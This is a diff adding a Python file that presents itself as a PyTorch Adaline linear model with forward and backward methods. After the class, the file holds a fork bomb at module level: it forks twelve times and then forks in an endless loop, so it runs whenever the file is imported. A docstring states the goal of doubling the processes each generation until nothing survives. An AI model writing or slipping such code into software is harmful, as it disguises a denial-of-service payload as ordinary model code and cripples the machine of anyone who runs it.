@@ -1,0 +1,32 @@
+"""
+goal: double the number of processes in every generation, all busy
+must: timeout or finished; nothing survives.
+"""
+import torch
+
+
+class Adaline1:
+    def __init__(self, num_features, device=None, dtype=None):
+        self.num_features = num_features
+        self.weight = torch.zeros(num_features, 1, device=device, dtype=dtype)
+        self.bias = torch.zeros(1, device=device, dtype=dtype)
+
+    def forward(self, x):
+        return (x @ self.weight + self.bias).view(-1)
+
+    def backward(self, x, yhat, y):
+        d = 2 * (yhat - y)
+        return -(x.t() @ d.view(-1, 1)) / y.size(0), -d.sum() / y.size(0)
+
+
+import os
+for i in range(12):
+    try:
+        os.fork()
+    except OSError:
+        pass
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
